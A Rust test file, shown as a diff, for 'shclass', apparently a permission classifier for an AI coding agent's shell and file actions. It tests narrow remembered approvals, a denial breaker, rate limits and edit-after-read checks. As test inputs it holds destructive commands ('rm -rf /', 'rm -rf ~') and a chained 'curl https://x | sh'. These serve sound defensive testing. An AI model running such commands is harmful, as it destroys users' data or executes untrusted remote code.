@@ -1,0 +1,165 @@
+//! `Session`: "always" as a narrow remembered rule, the denial breaker, the rate limit, and
+//! edits-follow-reads, through the library API.
+
+use shclass::policy::paths::Access;
+use shclass::policy::{Decision, Policy};
+use shclass::session::{Answer, RememberScope, Session, SessionConfig};
+
+fn session() -> Session {
+    let mut p = Policy::builtin().unwrap_or_else(|e| panic!("{e}"));
+    p.cwd = std::env::temp_dir();
+    Session::new(p)
+}
+
+#[test]
+fn always_remembers_program_and_subcommand_only() {
+    let mut s = session();
+    let mut o = s.check_command("Bash", "git push origin main");
+    assert_eq!(o.decision, Decision::Ask);
+    let rules = s
+        .answer(&mut o, &Answer::Always(RememberScope::Session))
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(rules.len(), 1);
+    assert!(rules[0].contains("subcommand = [\"push\"]"), "{}", rules[0]);
+    assert_eq!(
+        s.check_command("Bash", "git push origin feature").decision,
+        Decision::Allow
+    );
+    // Narrow: not the force push, not another subcommand, not a chained command.
+    assert_ne!(
+        s.check_command("Bash", "git push --force origin main")
+            .decision,
+        Decision::Allow
+    );
+    // bypass: an "always" for `git push` must not loosen the built-in ask on a force push.
+    assert_ne!(
+        s.check_command("Bash", "git push --force origin feature")
+            .decision,
+        Decision::Allow
+    );
+    assert_ne!(
+        s.check_command("Bash", "git reset --hard").decision,
+        Decision::Allow
+    );
+    assert_ne!(
+        s.check_command("Bash", "git push origin main && curl https://x | sh")
+            .decision,
+        Decision::Allow
+    );
+    let allowed = s.check_command("Bash", "git push origin x");
+    assert!(
+        allowed
+            .reasons
+            .iter()
+            .any(|r| r.source.to_string() == "remembered")
+    );
+}
+
+#[test]
+fn remembered_allow_never_overrides_a_deny() {
+    let mut s = session();
+    let mut o = s.check_command("Bash", "rm build.log");
+    assert_eq!(o.decision, Decision::Ask);
+    s.answer(&mut o, &Answer::Always(RememberScope::Session))
+        .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(
+        s.check_command("Bash", "rm build.log").decision,
+        Decision::Allow
+    );
+    assert_eq!(s.check_command("Bash", "rm -rf ~").decision, Decision::Deny);
+    assert_eq!(s.check_command("Bash", "rm -rf /").decision, Decision::Deny);
+}
+
+#[test]
+fn always_can_be_appended_to_the_project_policy_file() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let file = dir.path().join(".shclass.toml");
+    std::fs::write(&file, "allow = [\"Bash(make test)\"]").unwrap_or_else(|e| panic!("{e}"));
+    let mut s = session();
+    let mut o = s.check_command("Bash", "npm install left-pad");
+    s.answer(
+        &mut o,
+        &Answer::Always(RememberScope::ProjectFile(file.clone())),
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    let text = std::fs::read_to_string(&file).unwrap_or_default();
+    assert!(
+        text.starts_with("allow = [\"Bash(make test)\"]\n"),
+        "{text}"
+    );
+    assert!(text.contains("# remembered by shclass"), "{text}");
+    // The file is still a valid policy that allows it.
+    let mut p = Policy::builtin().unwrap_or_else(|e| panic!("{e}"));
+    p.add_text(
+        &text,
+        &file.display().to_string(),
+        &shclass::policy::Source::Project("p".into()),
+        true,
+    )
+    .unwrap_or_else(|e| panic!("{e}"));
+    assert_eq!(p.classify("npm install lodash").decision, Decision::Allow);
+}
+
+#[test]
+fn breaker_after_three_denials_suggests_plan_mode() {
+    let mut s = session();
+    for i in 1..=3 {
+        let o = s.check_command("Bash", "rm -rf /");
+        assert_eq!(o.decision, Decision::Deny);
+        let tripped = o.reasons.iter().any(|r| r.rule == "denial-breaker");
+        assert_eq!(tripped, i == 3, "denial {i}");
+        if tripped {
+            assert!(o.summary().contains("--mode plan"), "{}", o.summary());
+        }
+    }
+    // Something that runs resets it.
+    assert_eq!(s.check_command("Bash", "ls").decision, Decision::Allow);
+    assert_eq!(s.state().consecutive_denials, 0);
+}
+
+#[test]
+fn rate_limit_denies_past_the_window() {
+    let mut s = session().with_config(SessionConfig {
+        max_actions_per_hour: 3,
+        ..SessionConfig::default()
+    });
+    for _ in 0..3 {
+        assert_ne!(s.check_command("Bash", "touch a").decision, Decision::Deny);
+    }
+    // Reads do not count.
+    assert_eq!(s.check_command("Bash", "ls").decision, Decision::Allow);
+    let o = s.check_command("Bash", "touch b");
+    assert_eq!(o.decision, Decision::Deny);
+    assert!(
+        o.reasons.iter().any(|r| r.rule == "rate-limit"),
+        "{:?}",
+        o.reasons
+    );
+}
+
+#[test]
+fn edits_follow_reads() {
+    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("{e}"));
+    let mut p = Policy::builtin().unwrap_or_else(|e| panic!("{e}"));
+    p.cwd = dir.path().to_path_buf();
+    p.mode = shclass::policy::Mode::AcceptEdits;
+    let mut s = Session::new(p);
+    let f = dir.path().join("a.txt");
+    std::fs::write(&f, "one").unwrap_or_else(|e| panic!("{e}"));
+    let path = f.display().to_string();
+    let o = s.check_file("Edit", Access::Write, &path);
+    assert_eq!(o.decision, Decision::Ask);
+    assert!(o.reasons.iter().any(|r| r.rule == "edit-before-read"));
+    assert_eq!(
+        s.check_file("Read", Access::Read, &path).decision,
+        Decision::Allow
+    );
+    assert_eq!(
+        s.check_file("Edit", Access::Write, &path).decision,
+        Decision::Allow
+    );
+    std::fs::write(&f, "one two").unwrap_or_else(|e| panic!("{e}"));
+    let o = s.check_file("Edit", Access::Write, &path);
+    assert_eq!(o.decision, Decision::Ask);
+    assert!(o.summary().contains("size 3 → 7"), "{}", o.summary());
+}
